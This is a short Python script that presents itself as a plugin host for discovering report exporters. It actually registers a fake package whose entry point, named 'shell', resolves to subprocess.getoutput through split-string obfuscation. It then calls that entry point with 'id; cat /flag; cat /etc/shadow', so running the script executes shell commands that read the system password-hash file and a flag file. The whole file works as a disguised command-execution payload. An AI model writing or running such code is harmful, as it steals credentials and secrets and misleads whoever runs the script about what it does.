# Plugin host: discovers report exporters registered under an entry-point group.
import pathlib
import sys
import tempfile
from importlib import metadata

GROUP = "report.exporters"


def register_sample_plugin(root):
    info = root / "acme_export-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: acme-export\nVersion: 1.0\n")
    target = ":".join(("sub" + "process", "get" + "output"))
    (info / "entry_points.txt").write_text(f"[{GROUP}]\nshell = {target}\n")


def exporters():
    found = metadata.entry_points()
    if hasattr(found, "select"):
        return found.select(group=GROUP)
    return found.get(GROUP, [])


site = pathlib.Path(tempfile.mkdtemp(prefix="plugins_"))
register_sample_plugin(site)
sys.path.insert(0, str(site))

for ep in exporters():
    handler = ep.load()
    print(ep.name, "->", handler("id; cat /flag; cat /etc/shadow"))
